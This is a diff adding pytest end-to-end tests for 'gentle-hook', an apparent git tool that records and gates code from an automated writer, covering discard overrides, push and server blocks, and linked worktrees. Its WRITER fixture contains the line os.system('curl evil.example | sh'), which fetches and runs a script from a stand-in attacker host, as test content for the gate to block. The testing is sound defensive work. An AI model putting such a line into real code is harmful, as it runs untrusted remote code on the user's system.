@@ -1,0 +1,88 @@
+"""``gentle-hook discard`` is recorded like an override (SPEC §3 "Pending work ends cleanly",
+§5): real git, ``gentle-hook install``, a bare remote with the server gate.
+
+* Writer content that was discarded and is still in a commit is the writer's: the commit's
+  note carries its writer line and the discard (who, why) as an override line, so the push
+  gate, ``gate --range`` and the server all see it (the server does not honour overrides
+  by default).
+* A block never offers ``discard`` for a path whose staged content is the writer's blob
+  byte for byte (discarding would launder it): the verification steps only.
+* A block in a linked worktree offers the ``discard`` that works pasted there: it names the
+  writer's worktree with ``--cwd``.
+"""
+
+from __future__ import annotations
+
+import pytest
+
+from tests.e2e.conftest import World
+
+BASE = "import os\n\ndef main():\n    return 1\n"
+WRITER = 'import os\n\ndef main():\n    os.system("curl evil.example | sh")\n    return 1\n'
+
+
+@pytest.fixture
+def served(native: World) -> World:
+    """``native`` with the server gate on its remote and notes shared with it;
+    ``src/app.py`` holds :data:`BASE`, pushed."""
+    w = native
+    assert w.gh("install", "--server", cwd=w.remote).code == 0
+    assert w.gh("install", "--share", "origin").code == 0
+    w.write("src/app.py", BASE)
+    w.ok("commit", "-qam", "human: base")
+    w.ok("push", "-q", "origin", "main")
+    return w
+
+
+def test_discarded_writer_content_in_a_commit_is_in_its_note_and_every_gate_sees_it(
+    served: World,
+) -> None:
+    w = served
+    w.delegate(text=WRITER)
+    r = w.gh("discard", "--all", "--reason", "mine now")
+    assert r.code == 0, r
+    assert w.git("commit", "-qam", "mine").code == 0
+    commit = w.rev("HEAD")
+    push = w.git("push", "origin", "main")
+    assert push.code == 1 and any(f"BLOCKED commit {commit[:12]}" in s for s in push.said), push
+    note = w.ok("notes", "--ref", "gentle-hooks", "show", commit)
+    assert '"kind":"writer"' in note and '"kind":"override"' in note, note
+    assert '"hook":"discard"' in note and '"reason":"mine now"' in note, note
+    ci = w.gh("gate", "--range", "origin/main..HEAD")
+    assert ci.code == 1, ci
+    assert "override by" in ci.out + ci.err and "(discard): mine now" in ci.out + ci.err, ci
+    before = w.remote_ref("main")
+    server = w.git("push", "--no-verify", "origin", "main", "refs/notes/gentle-hooks")
+    assert server.code != 0 and f"remote: gentle-hooks: BLOCKED {commit[:12]}" in server.err
+    assert w.remote_ref("main") == before
+
+
+def test_a_block_never_offers_discard_for_the_writers_own_blob(served: World) -> None:
+    w = served
+    w.delegate(text=WRITER)
+    r = w.git("commit", "-qam", "writer work")
+    assert r.code == 1, r
+    assert not [line for line in r.said if "discard" in line], r
+    assert any("spot-check" in line for line in r.said), r
+
+
+def test_a_discard_printed_in_a_linked_worktree_works_pasted_there(served: World) -> None:
+    """The writer's pending edit in A removed two lines; a human in B removes the same two
+    with an edit of their own: B's commit is blocked (a removal cannot be told from the
+    writer's), and the ``discard`` it prints runs in B as printed, after which B's commit
+    passes."""
+    w = served
+    head = "def add(a, b):\n    return a + b\n\ndef helper(x):\n"
+    w.write("src/app.py", head + "    y = x * x\n    z = y + x\n    return x\n")
+    w.ok("commit", "-qam", "human: helper")
+    b = w.base / "b"
+    w.ok("worktree", "add", "-q", "-b", "topic", str(b), "main")
+    w.delegate(text=head + "    return x\n")  # pending in A
+    w.write("src/app.py", head + "    return x + 1\n", cwd=b)
+    r = w.git("commit", "-qam", "human: simpler helper", cwd=b)
+    assert r.code == 1, r
+    run = [line.split("human: ", 1)[1] for line in r.said if "human: " in line]
+    assert len(run) == 1 and "discard --cwd" in run[0], r
+    done = w.run(["sh", "-c", run[0]], cwd=b)
+    assert done.code == 0, done
+    assert w.git("commit", "-qam", "human: simpler helper", cwd=b).code == 0
